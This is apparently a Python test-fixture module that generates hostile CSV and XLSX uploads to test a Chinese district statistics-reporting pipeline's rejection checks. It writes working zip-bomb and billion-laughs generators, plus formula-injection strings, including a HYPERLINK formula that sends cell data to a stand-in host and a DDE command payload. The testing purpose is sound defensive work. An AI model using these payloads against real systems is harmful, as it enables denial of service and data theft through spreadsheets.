"""A corpus of hostile department files, generated in code (nothing large is committed): each entry builds its bytes
on demand and says what the pipeline must do with it — refuse it with one of the named checks, or load exactly the
rows written in it.

The rows that may load are A03 (高成长性科技企业数, 区科委, quarterly, baseline 500 in 2023Q3) for 2023Q4 and 2024Q1:
values near the baseline, so that no 核实性 check speaks and a file that loads is stored without question.
"""
from __future__ import annotations

import codecs
import io
import random
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import cache

from tests.conftest import HEADER, csv_bytes, xlsx_bytes

MB = 2**20
BOMB = 1024 * MB  # what a zip bomb unpacks to: ten times the 100 MB an XLSX may unpack to
Row = tuple[str, str, float, str]  # (indicator code, period, value, note) as the store must hold it

GOOD: tuple[Row, ...] = (("A03", "2023Q4", 510.0, "区科委认定名单"), ("A03", "2024Q1", 520.0, ""))
GOOD_ROWS = [HEADER, ["A03", "高成长性科技企业数", "2023Q4", "510", "区科委认定名单"],
             ["A03", "高成长性科技企业数", "2024Q1", "520", ""]]
ENGLISH = ["code", "period", "value", "note"]  # the English header departments may also use


@dataclass(frozen=True)
class Hostile:
    """One hostile file: how to build it, and either the checks that may refuse it or the rows it must load."""

    id: str
    name: str
    build: Callable[[], bytes]
    refused: frozenset[str] = frozenset()  # any of these checks (and only these) refuse the file
    loaded: tuple[Row, ...] = ()  # ... or the file loads, and the store then holds exactly these rows
    seconds: float | None = None  # a tighter time bound than the test's, where a known defect is shown
    defect: str = ""  # a known defect outside the reader that this file shows (the test is then a strict xfail)

    def __post_init__(self) -> None:
        assert bool(self.refused) != bool(self.loaded), self.id

    def __str__(self) -> str:
        return self.id


def refuse(id: str, name: str, build: Callable[[], bytes], *checks: str, **known: object) -> Hostile:
    return Hostile(id, name, build, refused=frozenset(checks), **known)  # type: ignore[arg-type]


def load(id: str, name: str, build: Callable[[], bytes], rows: Sequence[Row] = GOOD) -> Hostile:
    return Hostile(id, name, build, loaded=tuple(rows))


# ---- builders ----------------------------------------------------------------------------------------------

@cache
def good_xlsx() -> bytes:
    return xlsx_bytes(GOOD_ROWS)


def good_csv(encoding: str = "utf-8-sig") -> bytes:
    return csv_bytes(GOOD_ROWS, encoding=encoding)


def cut(data: bytes, share: float) -> bytes:
    return data[: int(len(data) * share)]


def flip_middle(data: bytes) -> bytes:
    """The workbook with 64 bytes in the middle of its first member's compressed data overwritten (CRC no longer fits)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    start = sheet.header_offset + 30 + len(sheet.filename) + sheet.compress_size // 3
    return data[:start] + bytes(64) + data[start + 64:]


def zip_of(members: Sequence[tuple[str, bytes]], level: int = 9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>")
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="填报表" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
    ' Target="{target}"/></Relationships>')
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def column_letter(index: int) -> str:
    """1 → A, 16384 → XFD."""
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell_xml(ref: str, value: object) -> str:
    """An inline-string or number cell; a (formula, cached) pair is a formula cell with its cached text."""
    if isinstance(value, tuple):
        formula, cached = value
        return f'<c r="{ref}" t="str"><f>{_escape(formula)}</f><v>{_escape(cached)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{_escape(str(value))}</t></is></c>'


def row_xml(number: int, cells: Sequence[object], first_column: int = 1) -> str:
    inner = "".join(cell_xml(f"{column_letter(first_column + i)}{number}", v) for i, v in enumerate(cells) if v != "")
    return f'<row r="{number}">{inner}</row>'


def sheet_xml(rows: Sequence[str], dimension: str | None = None) -> bytes:
    size = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}>{size}<sheetData>{"".join(rows)}</sheetData></worksheet>'.encode()


def raw_xlsx(sheet: bytes, *, workbook: str = _WORKBOOK, extra: Sequence[tuple[str, bytes]] = (),
             sheet_path: str = "worksheets/sheet1.xml") -> bytes:
    """A minimal workbook written by hand, so that its XML can say what openpyxl would never write."""
    return zip_of([("[Content_Types].xml", _CONTENT_TYPES.encode()), ("_rels/.rels", _RELS.encode()),
                   ("xl/workbook.xml", workbook.encode()),
                   ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.format(target=sheet_path).encode()),
                   ("xl/" + sheet_path, sheet), *extra])


def good_rows_xml(start: int = 1) -> list[str]:
    return [row_xml(start + i, [c if i == 0 or n != 3 else float(c) for n, c in enumerate(r)])
            for i, r in enumerate(GOOD_ROWS)]


def deflated_zeros(size: int) -> bytes:
    """A raw deflate stream of `size` (a multiple of 1 MB) zero bytes: the blocks of one megabyte, flushed to a byte
    boundary, repeated, then an empty final block — made in milliseconds, never `size` bytes in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = packer.compress(bytes(MB)) + packer.flush(zlib.Z_SYNC_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15)
    return megabyte * (size // MB) + final.compress(b"") + final.flush()


def zip_with_stream(members: Sequence[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from already-deflated members (name, deflated data, declared size, crc): sizes may lie."""
    out = io.BytesIO()
    central = []
    for name, packed, size, crc in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(b"PK\x03\x04" + _u16(20) + _u16(0) + _u16(8) + _u16(0) + _u16(0x21) + _u32(crc)
                  + _u32(len(packed)) + _u32(size) + _u16(len(encoded)) + _u16(0) + encoded + packed)
        central.append(b"PK\x01\x02" + _u16(20) + _u16(20) + _u16(0) + _u16(8) + _u16(0) + _u16(0x21) + _u32(crc)
                       + _u32(len(packed)) + _u32(size) + _u16(len(encoded)) + _u16(0) + _u16(0) + _u16(0)
                       + _u16(0) + _u32(0) + _u32(offset) + encoded)
    start = out.tell()
    directory = b"".join(central)
    out.write(directory + b"PK\x05\x06" + _u16(0) + _u16(0) + _u16(len(central)) + _u16(len(central))
              + _u32(len(directory)) + _u32(start) + _u16(0))
    return out.getvalue()


def _u16(n: int) -> bytes:
    return n.to_bytes(2, "little")


def _u32(n: int) -> bytes:
    return (n & 0xFFFFFFFF).to_bytes(4, "little")


def _deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def workbook_members() -> list[tuple[str, bytes, int, int]]:
    parts = [("[Content_Types].xml", _CONTENT_TYPES.encode()), ("_rels/.rels", _RELS.encode()),
             ("xl/workbook.xml", _WORKBOOK.encode()),
             ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.format(target="worksheets/sheet1.xml").encode())]
    return [(name, _deflated(content), len(content), zlib.crc32(content)) for name, content in parts]


@cache
def packed_zeros(size: int) -> tuple[bytes, int]:
    """`size` zero bytes deflated (~1/1000 of that), and their CRC; made once per test session."""
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(bytes(MB), crc)
    return deflated_zeros(size), crc


def bomb_member(name: str, size: int, declared: int | None = None) -> tuple[str, bytes, int, int]:
    """A member of `size` zero bytes that may declare another size."""
    packed, crc = packed_zeros(size)
    return name, packed, size if declared is None else declared, crc


def zip_bomb_xlsx(size: int, declared: int | None = None) -> bytes:
    return zip_with_stream([*workbook_members(), bomb_member("xl/worksheets/sheet1.xml", size, declared)])


def nested_zip_bomb() -> bytes:
    """A zip inside a zip inside a zip, the innermost holding 1 GB of zeros: 100 GB unpacked all the way."""
    inner = zip_with_stream([bomb_member("zeros.bin", BOMB)])
    middle = zip_of([(f"layer{i}.zip", inner) for i in range(10)])
    return zip_of([*[(f"xl/embeddings/oleObject{i}.bin", middle) for i in range(10)]], level=9)


def many_members(count: int, size: int) -> bytes:
    """A workbook-shaped zip with `count` members of `size` zeros each."""
    member = bomb_member("x", size)
    return zip_with_stream([*workbook_members(),
                            *[(f"xl/media/image{i}.bin", member[1], member[2], member[3]) for i in range(count)]])


def good_xlsx_with(extra: Sequence[tuple[str, bytes]]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(good_xlsx())) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    return zip_of([*members, *extra])


def billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    sheet = (f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]><worksheet {_NS}><sheetData>'
             f'<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>')
    return raw_xlsx(sheet.encode())


def csv_text(lines: Sequence[str], encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    return newline.join(lines).encode(encoding) + newline.encode(encoding)


def seeded_bytes(size: int, seed: int, alphabet: bytes | None = None) -> bytes:
    rng = random.Random(seed)
    if alphabet is None:
        return rng.randbytes(size)
    return bytes(rng.choices(alphabet, k=size))


# ---- the corpus --------------------------------------------------------------------------------------------

NOTE_5MB = "说明" * (5 * MB // 6)  # 5 MB of UTF-8 text in one note cell: under the file limit, over MAX_CELL_CHARS
HEAD = ",".join(HEADER)
ROW1 = "A03,高成长性科技企业数,2023Q4,510,区科委认定名单"
ROW2 = "A03,高成长性科技企业数,2024Q1,520,"
INJECTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
              "=1+1", "\t=1+1")


def _injection_rows() -> list[list[object]]:
    return [HEADER, *[["A03", "", period, 500 + n, note] for n, (period, note) in
                      enumerate(zip(("2023Q4", "2024Q1", "2024Q2", "2024Q3", "2024Q4", "2025Q1"), INJECTIONS))]]


# every cell is stored trimmed of surrounding blanks, so "\t=1+1" is kept as "=1+1"
INJECTED: tuple[Row, ...] = tuple(("A03", period, 500.0 + n, note.strip()) for n, (period, note) in
                                  enumerate(zip(("2023Q4", "2024Q1", "2024Q2", "2024Q3", "2024Q4", "2025Q1"), INJECTIONS)))


def _injection_xlsx() -> bytes:
    rows = [row_xml(1, HEADER)] + [row_xml(n + 2, r) for n, r in enumerate(_injection_rows()[1:])]
    return raw_xlsx(sheet_xml(rows))  # inline strings: text that begins with = stays text


def _formula_cells_xlsx() -> bytes:
    """Real formula cells as Excel saves them: the formula and its cached result; the result is what is read."""
    rows = [row_xml(1, HEADER),
            row_xml(2, ["A03", "", "2023Q4", ("500+10", "510"), ('HYPERLINK("http://evil.example","点击")', "点击")])]
    return raw_xlsx(sheet_xml(rows))


def _shared_strings(count: int) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?><sst {_NS} count="{count}" uniqueCount="{count}">'.encode()
            + b"<si><t>x</t></si>" * count + b"</sst>")


def dense_sheet(size: float, sheet_path: str = "worksheets/sheet1.xml", width: int = 50) -> bytes:
    """A header, then as many rows of `width` cells as fit in `size` bytes of sheet XML (no row or cell references):
    every cell is parsed, though only the first five columns are read."""
    head = row_xml(1, HEADER)
    row = "<row>" + "<c><v>1</v></c>" * width + "</row>"
    return raw_xlsx(sheet_xml([head, *[row] * int((size - 400 - len(head)) // len(row))]), sheet_path=sheet_path)


CORPUS: list[Hostile] = [
    # truncated and damaged workbooks
    *[refuse(f"xlsx-cut-at-{int(share * 100)}pct", "报表.xlsx", lambda s=share: cut(good_xlsx(), s), "corrupt-file")
      for share in (0.1, 0.5, 0.9)],
    refuse("xlsx-cut-inside-end-record", "报表.xlsx", lambda: good_xlsx()[:-10], "corrupt-file"),
    refuse("xlsx-cut-last-byte", "报表.xlsx", lambda: good_xlsx()[:-1], "corrupt-file"),
    refuse("xlsx-only-local-header", "报表.xlsx", lambda: good_xlsx()[:30], "corrupt-file"),
    refuse("xlsx-damaged-sheet-data", "报表.xlsx", lambda: flip_middle(good_xlsx()), "corrupt-file"),
    refuse("xlsx-shared-string-out-of-range", "报表.xlsx",
           lambda: raw_xlsx(sheet_xml([row_xml(1, HEADER), '<row r="2"><c r="A2" t="s"><v>999999</v></c></row>'])),
           "corrupt-file"),
    refuse("xlsx-workbook-xml-not-xml", "报表.xlsx", lambda: raw_xlsx(sheet_xml([]), workbook="not xml <<<"),
           "corrupt-file"),
    # truncated CSV and wrong encodings
    # (cut 3 bytes from the end: the line break and the last byte of 单)
    refuse("csv-utf8-bom-cut-mid-character", "报表.csv", lambda: csv_text([HEAD, ROW1], "utf-8-sig")[:-3],
           "damaged-utf8"),
    refuse("csv-utf8-english-header-cut-mid-character", "report.csv",
           lambda: csv_text([",".join(ENGLISH), "A03,2023Q4,510,区科委认定名单"])[:-3], "damaged-utf8"),
    refuse("csv-utf8-english-header-stray-latin1-byte", "report.csv",
           lambda: csv_text([",".join(ENGLISH), "A03,2023Q4,510,区科委认定名单", "A03,2024Q1,520,Caf"])[:-2]
           + b"\xe9s\r\n", "damaged-utf8"),
    load("csv-gb18030-read-as-utf8-first", "报表.csv", lambda: good_csv("gb18030")),
    refuse("csv-gb18030-cut-mid-character", "报表.csv", lambda: csv_text([HEAD, ROW1], "gb18030")[:-3], "bad-encoding"),
    load("csv-gb18030-four-byte-character", "报表.csv",
         lambda: csv_text([HEAD, "A03,,2023Q4,510,𠀀认定（扩展B区字）"], "gb18030"),
         [("A03", "2023Q4", 510.0, "𠀀认定（扩展B区字）")]),
    refuse("csv-utf16le-without-bom", "报表.csv", lambda: good_csv("utf-16-le"), "binary-file"),
    refuse("csv-utf16be-without-bom", "报表.csv", lambda: good_csv("utf-16-be"), "binary-file"),
    refuse("csv-utf16-bom-odd-length", "报表.csv", lambda: good_csv("utf-16")[:-1], "bad-encoding"),
    refuse("csv-latin1-mojibake-of-utf8", "报表.csv", lambda: good_csv("utf-8").decode("latin-1").encode("utf-8"),
           "no-header"),
    refuse("csv-latin1-english-header", "report.csv",
           lambda: csv_text([",".join(ENGLISH), "A03,2023Q4,510,Crèche ouverte à Paris"], "latin-1"), "bad-encoding"),
    refuse("csv-latin1-english-header-valid-as-gb18030", "report.csv",
           lambda: csv_text([",".join(ENGLISH), "A03,2023Q4,510,Crèche Müller"], "latin-1"), "bad-encoding"),
    refuse("csv-shift-jis-japanese-header", "報告.csv",
           lambda: csv_text(["指標コード,統計期間,数値,備考", "A03,2023Q4,510,テスト"], "shift-jis"), "no-header",
           "bad-encoding"),
    refuse("csv-shift-jis-english-header", "report.csv",
           lambda: csv_text([",".join(ENGLISH), "A03,2023Q4,510,テストデータ確認済み"], "shift-jis"), "bad-encoding"),
    # enormous cells
    refuse("csv-50mb-cell-over-file-limit", "报表.csv", lambda: csv_text([HEAD, ROW1 + "x" * (50 * MB)]),
           "file-too-large"),
    refuse("csv-5mb-note-cell", "报表.csv", lambda: csv_text([HEAD, ROW1 + NOTE_5MB]), "note-too-long"),
    refuse("csv-5mb-note-cell-in-ragged-row", "报表.csv", lambda: csv_text([HEAD, ROW1 + NOTE_5MB + ",extra,cells"]),
           "note-too-long", "unreadable-csv"),
    refuse("csv-5mb-cell-above-header", "报表.csv", lambda: csv_text(["表名：" + NOTE_5MB, HEAD, ROW1]),
           "unreadable-csv", "no-header"),
    refuse("xlsx-5mb-note-cell", "报表.xlsx",
           lambda: raw_xlsx(sheet_xml([row_xml(1, HEADER), row_xml(2, ["A03", "", "2023Q4", 510, NOTE_5MB])])),
           "xml-too-large"),
    refuse("xlsx-1mb-note-cell", "报表.xlsx",
           lambda: raw_xlsx(sheet_xml([row_xml(1, HEADER), row_xml(2, ["A03", "", "2023Q4", 510, "说明" * (MB // 6)])])),
           "note-too-long"),
    refuse("xlsx-5-million-shared-strings", "报表.xlsx", lambda: raw_xlsx(
        sheet_xml(good_rows_xml()), extra=[("xl/sharedStrings.xml", _shared_strings(5_000_000))]), "xml-too-large"),
    refuse("xlsx-densest-sheet-under-the-xml-limit", "报表.xlsx", lambda: dense_sheet(1.9 * MB),
           "unknown-indicator", "more-problems"),
    refuse("xlsx-50001-rows", "报表.xlsx", lambda: dense_sheet(50_001 * 26 + 1_000, width=1), "too-many-rows"),
    refuse("xlsx-dense-sheet-over-the-xml-limit", "报表.xlsx", lambda: dense_sheet(3 * MB), "xml-too-large"),
    refuse("xlsx-dense-sheet-named-as-an-image", "报表.xlsx", lambda: dense_sheet(3 * MB, "media/image1.png"),
           "xml-too-large"),
    # a million columns
    refuse("csv-header-with-a-million-commas", "报表.csv", lambda: csv_text([HEAD + "," * 1_000_000, ROW1]),
           "too-many-columns"),
    load("csv-a-million-commas-above-header", "报表.csv", lambda: csv_text(["," * 1_000_000, HEAD, ROW1]), GOOD[:1]),
    load("csv-data-row-with-a-million-commas", "报表.csv", lambda: csv_text([HEAD, ROW1 + "," * 1_000_000, ROW2])),
    refuse("xlsx-dimension-claims-XFD1048576", "报表.xlsx",
           lambda: raw_xlsx(sheet_xml(good_rows_xml(), dimension="A1:XFD1048576")), "sheet-too-many-columns"),
    refuse("xlsx-header-cell-in-column-XFD", "报表.xlsx",
           lambda: raw_xlsx(sheet_xml([row_xml(1, HEADER)[:-6] + cell_xml("XFD1", "多余") + "</row>",
                                       *good_rows_xml()[1:]])), "too-many-columns"),
    load("xlsx-5000-rows-each-with-a-cell-in-XFD", "报表.xlsx",
         lambda: raw_xlsx(sheet_xml([*good_rows_xml(),
                                     *[f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(4, 5_004)]]))),
    refuse("xlsx-row-number-jumps-to-1e8", "报表.xlsx",
           lambda: raw_xlsx(sheet_xml([*good_rows_xml(), row_xml(100_000_000, ["A03", "", "2024Q2", 530, ""])])),
           "corrupt-file", "too-many-rows"),
    load("xlsx-row-number-jumps-to-last-excel-row", "报表.xlsx",
         lambda: raw_xlsx(sheet_xml([*good_rows_xml(), row_xml(1_048_576, ["A03", "", "2024Q2", 530, ""])])),
         [*GOOD, ("A03", "2024Q2", 530.0, "")]),
    # formula injection: text stays text in the store (the export test checks that it is neutralised there)
    load("csv-formula-injection-in-notes", "报表.csv", lambda: csv_bytes(_injection_rows()), INJECTED),
    load("xlsx-formula-injection-in-notes", "报表.xlsx", _injection_xlsx, INJECTED),
    load("xlsx-formula-cells-read-as-cached-results", "报表.xlsx", _formula_cells_xlsx,
         [("A03", "2023Q4", 510.0, "点击")]),
    refuse("csv-formula-injection-in-value-and-code", "报表.csv",
           lambda: csv_bytes([HEADER, ["A03", "", "2023Q4", "=1+1", ""], ["A03", "", "2024Q1", "-2+3", ""],
                              ["@SUM(1)", "", "2024Q2", "510", ""], ["+cmd|' /C calc'!A0", "", "2024Q3", "510", ""]]),
           "not-a-number", "unknown-indicator"),
    # zip bombs disguised as workbooks
    refuse("xlsx-zip-bomb-1gb-of-zeros", "报表.xlsx", lambda: zip_bomb_xlsx(BOMB), "unpacked-too-large"),
    refuse("xlsx-zip-bomb-lying-about-its-size", "报表.xlsx", lambda: zip_bomb_xlsx(BOMB, declared=1000),
           "corrupt-file"),
    refuse("xlsx-zip-bomb-of-many-members", "报表.xlsx", lambda: many_members(2_000, MB), "unpacked-too-large"),
    load("xlsx-with-20000-tiny-members", "报表.xlsx",
         lambda: good_xlsx_with([(f"xl/media/image{i}.png", b"\x89PNG") for i in range(20_000)])),
    load("xlsx-with-nested-zip-bomb-embedded", "报表.xlsx", lambda: good_xlsx_with([("xl/embeddings/x.bin",
                                                                                   nested_zip_bomb())])),
    refuse("xlsx-billion-laughs", "报表.xlsx", billion_laughs, "corrupt-file", "no-header"),
    refuse("csv-that-is-a-zip-bomb", "报表.csv", lambda: zip_bomb_xlsx(BOMB), "unpacked-too-large"),
    refuse("csv-that-is-a-plain-zip", "报表.csv", lambda: zip_of([("a.txt", b"hello")]), "corrupt-file"),
    # NUL bytes, random bytes, other formats under our names
    refuse("csv-utf8-with-nul-in-a-note", "报表.csv", lambda: csv_text([HEAD, ROW1 + "\x00注"]), "binary-file"),
    refuse("csv-utf8-with-nul-after-64kb", "报表.csv",
           lambda: csv_text([HEAD, *[ROW2] * 2_000, "A03,,2024Q2,530,a\x00b"]), "binary-file"),
    refuse("random-bytes-csv", "报表.csv", lambda: seeded_bytes(MB, 1), "binary-file"),
    refuse("random-bytes-without-nul-csv", "报表.csv", lambda: seeded_bytes(MB, 2, bytes(range(1, 256))),
           "bad-encoding", "no-header", "unreadable-csv"),
    refuse("random-bytes-xlsx", "报表.xlsx", lambda: seeded_bytes(MB, 3), "binary-file"),
    refuse("random-bytes-after-zip-magic", "报表.xlsx", lambda: b"PK\x03\x04" + seeded_bytes(MB, 4), "corrupt-file"),
    refuse("html-named-xls", "报表.xls", lambda: b"<html><body><table><tr><td>" + HEAD.encode() + b"</td></tr></table>",
           "old-excel-format"),
    refuse("html-named-xlsx", "报表.xlsx", lambda: b"<html><body><table><tr><td>" + HEAD.encode() + b"</td></tr></table>",
           "binary-file"),
    refuse("html-named-csv", "报表.csv", lambda: ("<html><body><table><tr><td>" + "</td><td>".join(HEADER)
                                                + "</td></tr></table></body></html>").encode(), "no-header"),
    refuse("only-utf8-bom", "报表.csv", lambda: codecs.BOM_UTF8, "empty-file"),
    refuse("only-utf16-bom", "报表.csv", lambda: codecs.BOM_UTF16_LE, "empty-file"),
    refuse("utf8-bom-and-blank-lines", "报表.csv", lambda: codecs.BOM_UTF8 + b"\r\n\r\n  \r\n", "empty-file"),
    refuse("utf16-bom-and-blank-lines", "报表.csv", lambda: "\r\n \r\n".encode("utf-16"), "empty-file"),
    # many rows, long lines, line endings, quotes
    load("csv-50000-lines-at-the-row-limit", "报表.csv", lambda: csv_text([HEAD, ROW1]) + b"\r\n" * 49_998,
         GOOD[:1]),
    refuse("csv-50001-lines", "报表.csv", lambda: csv_text([HEAD, *["A03,,2023Q4,510,区科委认定名单"] * 50_000]),
           "too-many-rows"),
    refuse("csv-9999-conflicting-duplicates", "报表.csv",
           lambda: csv_text([HEAD, *[f"A03,,2023Q4,{500 + n % 7}," for n in range(9_999)]]),
           "duplicate-conflict", "more-problems"),
    refuse("csv-49999-conflicting-duplicates", "报表.csv",
           lambda: csv_text([HEAD, *[f"A03,,2023Q4,{500 + n % 7}," for n in range(49_999)]]),
           "duplicate-conflict", "more-problems", seconds=8.0),
    refuse("csv-5-million-blank-lines-after-data", "报表.csv", lambda: csv_text([HEAD, ROW1]) + b"\n" * (5 * 10**6),
           "too-many-rows"),
    refuse("csv-a-million-junk-lines", "报表.csv", lambda: csv_text([HEAD, *["junk,行"] * 1_000_000]),
           "too-many-rows"),
    # no line has a value: a file with nothing to report (a blank 数值 is "not reported", checked before the codes)
    refuse("csv-49999-junk-lines", "报表.csv", lambda: csv_text([HEAD, *["junk,行"] * 49_999]), "no-values"),
    refuse("csv-49999-rows-every-cell-distinct", "报表.csv",
           lambda: csv_text([HEAD, *[f"Z{n},,{n}Q1,{n},n{n}" for n in range(49_999)]]),
           "unknown-indicator", "more-problems"),
    refuse("csv-4-million-junk-lines-without-header", "报表.csv", lambda: b"x\n" * (4 * 10**6), "too-many-rows"),
    refuse("csv-49999-junk-lines-without-header", "报表.csv", lambda: b"x\n" * 49_999, "no-header"),
    refuse("csv-9mb-line-without-newline", "报表.csv", lambda: b"a" * (9 * MB), "unreadable-csv", "no-header"),
    refuse("csv-9mb-line-of-commas-without-newline", "报表.csv", lambda: b"a," * (4 * MB), "no-header",
           "too-many-columns"),
    load("csv-mixed-line-endings", "报表.csv",
         lambda: (HEAD + "\r\n" + ROW1 + "\r" + ROW2 + "\n").encode("utf-8-sig")),
    load("csv-mixed-line-endings-blank-lines-between", "报表.csv",
         lambda: (HEAD + "\r\n\r" + ROW1 + "\n\r\n" + ROW2 + "\r").encode("utf-8-sig")),
    load("csv-deeply-quoted-field", "报表.csv",
         lambda: (HEAD + "\r\n" + 'A03,,2023Q4,510,"' + '""' * 1_000 + '"\r\n').encode("utf-8-sig"),
         [("A03", "2023Q4", 510.0, '"' * 1_000)]),
    refuse("csv-unterminated-quote", "报表.csv",
           lambda: (HEAD + "\r\n" + 'A03,,2023Q4,510,"说明没有结束\r\n' + ROW2 + "\r\n").encode("utf-8-sig"),
           "unreadable-csv", "note-too-long"),
    refuse("csv-unterminated-quote-in-header", "报表.csv",
           lambda: ('"' + HEAD + "\r\n" + ROW1 + "\r\n").encode("utf-8-sig"), "no-header", "unreadable-csv"),
    refuse("csv-quote-then-5mb-without-closing", "报表.csv",
           lambda: (HEAD + "\r\n" + 'A03,,2023Q4,510,"' + NOTE_5MB).encode("utf-8-sig"), "unreadable-csv",
           "note-too-long"),
]
